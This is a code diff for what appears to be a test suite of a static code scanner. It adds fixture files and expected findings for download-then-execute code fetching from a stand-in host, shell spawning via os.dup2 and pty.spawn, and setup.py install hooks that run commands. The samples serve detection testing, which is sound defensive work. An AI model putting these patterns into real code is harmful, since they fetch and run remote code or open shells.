@@ -68,6 +68,31 @@ def catalogue_entries(spark: SparkSession, sf_dir: str) -> DataFrame:
     return R.audit(rows).where(F.col("rule").isin(_CODES)).select("file_id", "rule", "confidence", "label")
 
 
+_GET = "import os\nfrom urllib.request import urlretrieve\n"
+_HOOK = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass A(install):\n    def run(self):\n        {}\nos.system('ls')\n"
+_DUP = "import os\nos.dup2(3, 0)\n"
+#: Sources in which one fact decides another, and what of it has to be found: rule, confidence, label.
+_ORDERED: list[tuple[str, str, list[tuple[str, int, str]]]] = [
+    ("a.py", _GET + "urlretrieve('http://e.com/x', 'herefile')\nos.system('./herefile -v')\n", [("HX8000", 4, "http://e.com/x")]),
+    ("a.py", _GET + "os.system('./herefile -v')\nurlretrieve('http://e.com/x', 'herefile')\n", []),
+    ("a.py", _GET + "urlretrieve('http://e.com/x', 'herefile')\nos.system('./otherfile')\n", []),
+    ("a.py", _GET + "urlretrieve('http://e.com/x', 'afile')\nurlretrieve('http://e.com/y', 'afile')\nos.system('afile')\n", [("HX8000", 4, "http://e.com/y")]),
+    ("a.py", _GET + "urlretrieve('http://e.com/x', 'afile')\nos.system('afile')\nurlretrieve('http://e.com/y', 'afile')\n", [("HX8000", 4, "http://e.com/x")]),
+    ("a.py", _DUP, [("HX3060", 3, "os.dup2")]),
+    ("a.py", _DUP + "os.system('sh')\n", [("HX3060", 4, "os.dup2")]),
+    ("a.py", "import pty\n" + _DUP + "pty.spawn('sh')\n", [("HX3060", 4, "os.dup2"), ("HX3060", 4, "pty.spawn")]),
+    ("setup.py", _HOOK.format("os.system('ls')"), [("HX8040", 5, "A")]),
+    ("setup.py", _HOOK.format("pass"), [("HX8040", 3, "A")]),
+]
+
+
+def ordered_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Findings that other statements of the file decide: downloads that are run, copied descriptors, install hooks."""
+    pick = lambda values: F.get(F.array(*map(F.lit, values)), (F.col("doc_id") % len(_ORDERED)).cast("int"))
+    rows = spark.read.parquet(f"{sf_dir}/documents.parquet").select(F.col("doc_id").cast("string").alias("file_id"), pick([p for p, *_ in _ORDERED]).alias("file_path"), pick([t for _, t, _ in _ORDERED]).alias("content"))
+    return R.audit(rows).where(F.col("rule").isin("HX8000", "HX3060", "HX8040")).select("file_id", "rule", "confidence", "label")
+
+
 def _values(rows: list[tuple]) -> str:
     return ", ".join("(" + ", ".join(_sql_text(x) if isinstance(x, str) else str(x) for x in row) + ")" for row in rows)
 
@@ -86,9 +111,12 @@ wanted AS (SELECT k, p AS label, confidence, rule FROM held JOIN pattern USING (
 SELECT CAST(doc_id AS VARCHAR) AS file_id, rule, confidence, label FROM documents JOIN wanted ON doc_id % {len(_ENTRIES)} = k
 """
 
+ORDERED_SQL = f"SELECT CAST(doc_id AS VARCHAR) AS file_id, rule, confidence, label FROM documents JOIN (VALUES {_values([(i, *found) for i, (*_, wanted) in enumerate(_ORDERED) for found in wanted])}) AS t(k, rule, confidence, label) ON doc_id % {len(_ORDERED)} = k"
+
 ALL = {
     "event_windows": (event_windows, EVENT_SQL),
     "walk_order": (walk_order, WALK_SQL),
     "vocabulary": (vocabulary, VOCABULARY_SQL),
     "catalogue_entries": (catalogue_entries, CATALOGUE_SQL),
+    "ordered_findings": (ordered_findings, ORDERED_SQL),
 }
